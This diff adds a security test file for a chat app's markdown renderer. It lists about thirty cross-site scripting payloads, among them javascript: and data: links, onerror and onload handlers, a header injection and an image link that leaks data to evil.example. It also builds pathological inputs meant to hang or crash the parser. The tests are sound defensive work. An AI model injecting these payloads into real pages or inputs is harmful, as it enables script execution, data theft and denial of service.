@@ -1,0 +1,129 @@
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, test } from "vitest";
+import { LiveMarkdown } from "../../../app/chat/markdown/live-markdown.server.ts";
+import { renderMarkdown } from "../../../app/chat/markdown/render.server.ts";
+import { ALLOWED, isAllowedHref, type Tree } from "../../../app/chat/markdown/tree.ts";
+import { TreeView } from "../../../app/chat/markdown/tree-view.tsx";
+import { chop, seededRandom } from "./random.ts";
+
+const XSS = [
+	"[a](javascript:alert(1))",
+	"[a](JaVaScRiPt:alert(1))",
+	"[a](&#106;avascript:alert(1))",
+	"[a](&#x6A;avascript&colon;alert(1))",
+	"[a](java\tscript:alert(1))",
+	"[a](<java\nscript:alert(1)>)",
+	"[a](\u0001javascript:alert(1))",
+	"[a](%6Aavascript:alert(1))",
+	"[a](vbscript:msgbox(1))",
+	"[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+	"[a](data:image/svg+xml;base64,PHN2Zz4=)",
+	"[a](file:///etc/passwd) [b](blob:x) [c](about:blank) [d](tel:1) [e](ws://a.example)",
+	"[a](//evil.example) [b](/\\evil.example) [c](/\t/evil.example) [d](\\\\evil.example) [e](https:evil.example)",
+	"[a](http://) [b](https:// evil) [c](?q=1) [d](#x) [e](../x) [f](/%0d%0aSet-Cookie:a)",
+	"<javascript:alert(1)> <data:text/html,x> javascript:alert(1)",
+	"![a](javascript:alert(1)) ![b](data:image/svg+xml,<svg/onload=alert(1)>) ![c](https://evil.example/?q=secret)",
+	'![a](https://evil.example/x.png" onerror="alert(1)) [b](https://a.example "\\" onmouseover=alert(1) x=\\"")',
+	"[a]: javascript:alert(1)\n\n[a] ![a]",
+	"[a]: data:text/html,x 'onload'\n\n[a][]",
+	"<script>alert(1)</script>\n\n<svg onload=alert(1)>\n\n<img src=x onerror=alert(1)>",
+	"<iframe srcdoc='<script>'></iframe><style>*{background:url(//evil.example)}</style>",
+	"<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+	"<a href=javascript:alert(1)>x</a> <details open ontoggle=alert(1)> <form action=//evil.example>",
+	"```html onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
+	'```"><img/src=x>\nx\n```\n\n~~~js" onclick="alert(1)\nx',
+	"| a |\n|---|\n| <img src=x onerror=alert(1)> [x](javascript:alert(1)) |",
+	"- [x] <input onfocus=alert(1) autofocus>",
+	'$\\href{javascript:alert(1)}{x}$\n\n```mermaid\nclick A href "javascript:alert(1)"\n```',
+	"https://a.example/'onclick='alert(1) www.a.example\"><script> a@b.example?subject=<script>",
+	"</script><!-- \u2028 ]]> <![CDATA[ <?php",
+];
+
+function elements(trees: readonly Tree[]): Exclude<Tree, string>[] {
+	return trees.flatMap((tree) => {
+		if (typeof tree === "string") return [];
+		const [, , ...children] = tree;
+		return [tree, ...elements(children)];
+	});
+}
+
+const LABELS = { copy: "Скопировать", copied: "Скопировано", code: "Код" };
+const htmlOf = (blocks: readonly Tree[]) =>
+	renderToStaticMarkup(<TreeView blocks={blocks} labels={LABELS} />);
+
+/** The tags of a piece of HTML, with the attributes they bear. */
+const tagsOf = (html: string) => html.match(/<[^>]+>/g) ?? [];
+
+describe.each(XSS)("security 44: %j", (markdown) => {
+	test("makes only known elements with known attributes and known links", () => {
+		for (const [tag, attributes] of elements(renderMarkdown(markdown))) {
+			expect(ALLOWED.has(tag)).toBe(true);
+			for (const [name, value] of Object.entries(attributes ?? {})) {
+				expect(ALLOWED.get(tag)).toContain(name);
+				if (name === "href") expect(isAllowedHref(value)).toBe(true);
+				if (name === "lang") expect(value).toMatch(/^[\w+#.-]+$/);
+			}
+		}
+	});
+
+	test("is shown without handlers, styles and anything that is fetched, also when it comes byte by byte", () => {
+		const live = new LiveMarkdown();
+		for (const piece of ["Начало.\n\n", ...markdown]) {
+			live.append(piece);
+			for (const tag of tagsOf(htmlOf(live.blocks))) {
+				expect(tag).not.toMatch(
+					/<(?:script|style|iframe|img|svg onload|object|embed|link|meta|base|form|math)\b/i,
+				);
+				expect(tag.replace(/="[^"]*"/g, "")).not.toMatch(
+					/\s(?:on\w+|style|src|srcset|srcdoc|action|formaction)\b/i,
+				);
+				expect(tag).not.toMatch(/href="(?!https?:\/\/[^/]|mailto:|\/(?![/\\]))/i);
+				if (/href="(?:http|mailto)/i.test(tag)) {
+					expect(tag).toContain('target="_blank" rel="noopener noreferrer nofollow ugc"');
+				}
+			}
+		}
+	});
+});
+
+const nested = (depth: number) => Array.from({ length: depth }, (_, i) => `${"  ".repeat(i)}- x\n`).join("");
+const ENDLESS: Record<string, string> = {
+	"open brackets": "[".repeat(50_000),
+	"open pictures": "![".repeat(25_000),
+	"links in links": `${"[".repeat(5_000)}a${"](x)".repeat(5_000)}`,
+	"link openings": "[a](".repeat(12_000),
+	asterisks: "*".repeat(50_000),
+	"underscores and asterisks": "*_".repeat(25_000),
+	"openers of emphasis": `${"**a ".repeat(8_000)}${"a** ".repeat(8_000)}`,
+	strikethrough: "~~a".repeat(16_000),
+	backticks: Array.from({ length: 300 }, (_, i) => `${"`".repeat(i)}x`).join(""),
+	"quotes in quotes": `${"> ".repeat(1_000)}x\nи дальше`,
+	"lists in lists": `${"- ".repeat(1_000)}x\n\nи дальше`,
+	"deep lists": `${nested(300)}\nи дальше`,
+	"lists in quotes": `${"> - ".repeat(500)}x\n\nи дальше`,
+	"angle brackets": "<a@".repeat(16_000),
+	addresses: "www.".repeat(12_000),
+	cells: `${"|a".repeat(20_000)}|\n${"|-".repeat(20_000)}|\n`,
+	definitions: Array.from({ length: 2_000 }, (_, i) => `[a${i}]\n\n[a${i}]: /x\n`).join("\n"),
+	"a title that never closes": `[x]: y "${"a\n".repeat(20_000)}`,
+	"empty items": "-\n\n".repeat(15_000),
+	spaces: `${" ".repeat(50_000)}a`,
+};
+
+// Time is for the table of measurements; here a text that hangs or overflows the stack is caught.
+describe("a hostile text ends, and nothing after it is lost", () => {
+	test.each(Object.entries(ENDLESS))("%s", { timeout: 10_000 }, (_name, markdown) => {
+		const blocks = renderMarkdown(markdown);
+		const json = JSON.stringify(blocks);
+		expect(htmlOf(JSON.parse(json))).not.toBe("");
+		if (markdown.endsWith("и дальше")) expect(json).toContain("и дальше");
+	});
+
+	test("its end is the same when it comes in pieces", { timeout: 20_000 }, () => {
+		for (const markdown of Object.values(ENDLESS)) {
+			const live = new LiveMarkdown();
+			for (const piece of chop(markdown, 12_000, seededRandom(1))) live.append(piece);
+			expect(JSON.stringify(live.blocks)).toBe(JSON.stringify(renderMarkdown(markdown)));
+		}
+	});
+});
